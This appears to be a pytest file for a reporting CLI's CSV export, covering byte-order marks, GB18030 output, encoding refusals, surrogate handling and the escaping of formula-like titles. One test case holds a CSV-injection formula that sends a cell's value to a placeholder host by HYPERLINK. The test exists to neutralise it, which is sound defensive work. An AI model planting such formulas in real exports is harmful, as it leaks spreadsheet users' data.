"""CSV as Excel, WPS and older office software read it: UTF-8 with a byte-order mark, or GB18030."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner

from core.errors import Refused
from core.settings import Settings
from reporting.formats import AUDIT_HEADERS
from reporting.output import write_audit
from reporting.yearly import AuditLine
from tests.reporting.ledger import EXPECTED_V2_2025, OFFICE_HEADERS, load_rows
from waiwen.cli import main

BOM = b"\xef\xbb\xbf"


@pytest.fixture
def ledger(settings: Settings) -> None:
    load_rows(settings.resolved_database_url)


def run(*args: str) -> tuple[int, bytes, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout_bytes, result.stderr


def rows_of(data: bytes, encoding: str) -> list[list[str]]:
    """The rows Python's csv module reads from ``data``, as a spreadsheet opening the file would."""
    return list(csv.reader(io.StringIO(data.decode(encoding), newline="")))


def json_table(tmp_path: Path) -> list[list[str]]:
    code, _, _ = run("report", "--year", "2025", "--format", "json", "--output", "r.json")
    assert code == 0
    table = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))["table"]
    return [list(table), [str(value) for value in table.values()]]


def test_the_report_csv_starts_with_a_byte_order_mark_and_holds_the_json_table(
    ledger: None, tmp_path: Path
) -> None:
    code, _, err = run("report", "--year", "2025", "--format", "csv", "--output", "r.csv")
    assert code == 0, err
    data = (tmp_path / "r.csv").read_bytes()

    assert data[:3] == BOM
    assert rows_of(data, "utf-8-sig") == json_table(tmp_path)
    assert rows_of(data, "utf-8-sig")[0] == list(OFFICE_HEADERS)
    # Standard output carries the same bytes, so `waiwen report --format csv > r.csv` works too.
    code, out, err = run("report", "--year", "2025", "--format", "csv")
    assert (code, out) == (0, data) and "convention: office-2020 v2" in err


def test_with_encoding_gb18030_the_csv_is_gb18030_without_a_byte_order_mark(
    ledger: None, tmp_path: Path
) -> None:
    code, _, err = run(
        "report", "--year", "2025", "--format", "csv", "--output", "r.csv", "--encoding", "gb18030"
    )
    assert code == 0, err
    data = (tmp_path / "r.csv").read_bytes()

    assert not data.startswith(BOM) and not data.startswith("\ufeff".encode("gb18030"))
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")  # the Chinese headers are GB18030 bytes, not UTF-8 ones
    assert rows_of(data, "gb18030") == json_table(tmp_path)
    code, out, _ = run("report", "--year", "2025", "--format", "csv", "--encoding", "GB18030")
    assert (code, out) == (0, data)


@pytest.mark.parametrize("encoding", ["utf-8", "gb18030"])
def test_the_audit_listing_is_written_in_the_same_encoding(
    ledger: None, tmp_path: Path, encoding: str
) -> None:
    code, _, err = run(
        "report", "--year", "2025", "--format", "xlsx", "--audit", "a.csv", "--encoding", encoding
    )
    assert code == 0, err
    data = (tmp_path / "a.csv").read_bytes()

    assert data.startswith(BOM) == (encoding == "utf-8")
    rows = rows_of(data, "utf-8-sig" if encoding == "utf-8" else encoding)
    assert rows[0] == list(AUDIT_HEADERS) and len(rows) == 10
    figure = AUDIT_HEADERS.index("figure")
    assert sum(int(row[figure]) for row in rows[1:]) == EXPECTED_V2_2025["total"]
    assert {row[AUDIT_HEADERS.index("title")] for row in rows[1:]} == {
        f"通知{key}" for key in "ABCD"
    }
    assert rows[1][AUDIT_HEADERS.index("published_on")] == "2025-01-06"


ACCEPTED = [
    ("utf-8", BOM),
    ("UTF-8", BOM),
    ("utf8", BOM),
    ("utf_8", BOM),
    ("utf-8-sig", BOM),
    ("gb18030", "英".encode("gb18030")),
    ("GB18030", "英".encode("gb18030")),
]


@pytest.mark.parametrize(("encoding", "starts"), ACCEPTED)
def test_an_encoding_is_accepted_in_any_spelling_python_knows(
    settings: Settings, encoding: str, starts: bytes
) -> None:
    code, out, err = run("report", "--year", "2025", "--format", "csv", "--encoding", encoding)
    assert code == 0, err
    assert out.startswith(starts)


@pytest.mark.parametrize("encoding", ["gbk", "gb2312", "latin-1", "utf-16", "big5", "no-such"])
def test_any_other_encoding_is_refused_before_anything_is_written(
    settings: Settings, tmp_path: Path, encoding: str
) -> None:
    code, out, err = run(
        "report", "--year", "2025", "--format", "csv", "--output", "r.csv", "--encoding", encoding
    )
    assert (code, out) == (1, b"")
    assert err == (
        f"waiwen: --encoding {encoding}: not accepted: CSV is written in utf-8 (with a byte-order"
        " mark, the default, for Excel and WPS) or gb18030 (for older office software)\n"
    )
    assert not (tmp_path / "r.csv").exists()


@pytest.mark.parametrize(("fmt", "kept"), [("json", "is always UTF-8"), ("png", "has no text")])
def test_an_encoding_for_a_report_without_csv_is_refused(
    settings: Settings, tmp_path: Path, fmt: str, kept: str
) -> None:
    code, _, err = run("report", "--year", "2025", "--format", fmt, "--encoding", "gb18030")
    assert code == 1
    assert "--encoding gb18030: only CSV files take an encoding (--format csv, or --audit" in err
    assert f"--format {fmt} {kept}" in err
    assert list(tmp_path.glob("report-*")) == []


def _line(title: str, key: str = "test:A") -> AuditLine:
    measures = {
        "latin_words": 3,
        "cjk_characters": 0,
        "characters_no_spaces": 12,
        "korean_words": 0,
        "words": 3,
    }
    return AuditLine(
        notice_id=1,
        notice_key=key,
        title=title,
        column="要闻动态",
        published_on=date(2025, 1, 6),
        language="en",
        version=1,
        source="notice A",
        figure=3,
        measures=measures,
    )


@pytest.mark.parametrize("encoding", ["utf-8", "gb18030"])
def test_characters_beyond_the_basic_plane_are_kept_in_either_encoding(
    tmp_path: Path, encoding: str
) -> None:
    title = "𠀀字与表情🙂"  # U+20000 and an emoji: four bytes in UTF-8 and in GB18030 alike
    path = tmp_path / "a.csv"

    assert write_audit([_line(title)], path, encoding) == 1

    rows = rows_of(path.read_bytes(), "utf-8-sig" if encoding == "utf-8" else encoding)
    assert rows[1][AUDIT_HEADERS.index("title")] == title


@pytest.mark.parametrize("encoding", ["utf-8", "gb18030"])
def test_a_character_the_encoding_cannot_hold_is_refused_by_file_row_field_and_character(
    tmp_path: Path, encoding: str
) -> None:
    # A lone surrogate is the one thing neither UTF-8 nor GB18030 can write.
    path = tmp_path / "a.csv"
    path.write_bytes(b"the listing of yesterday\n")
    lines = [_line("通知A"), _line("通知\ud800B", key="test:B")]

    with pytest.raises(Refused) as refused:
        write_audit(lines, path, encoding)

    assert str(refused.value) == (
        f"{path}: row 3, field title: the character U+D800 cannot be written in {encoding};"
        " correct it where it is stored"
    )
    assert path.read_bytes() == b"the listing of yesterday\n"  # nothing lost
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv"]  # nothing left beside it


@pytest.mark.parametrize(
    ("title", "written"),
    [
        (
            '=HYPERLINK("http://example.invalid/?d="&A1,"通知")',
            '\'=HYPERLINK("http://example.invalid/?d="&A1,"通知")',
        ),
        ("+1 通知", "'+1 通知"),
        ("-关于…的通知", "'-关于…的通知"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("关于=的通知", "关于=的通知"),  # only a formula's first character matters
    ],
)
def test_a_title_that_would_start_a_formula_is_written_as_text(
    tmp_path: Path, title: str, written: str
) -> None:
    path = tmp_path / "a.csv"
    assert write_audit([_line(title)], path, "utf-8") == 1
    rows = rows_of(path.read_bytes(), "utf-8-sig")
    assert rows[1][AUDIT_HEADERS.index("title")] == written
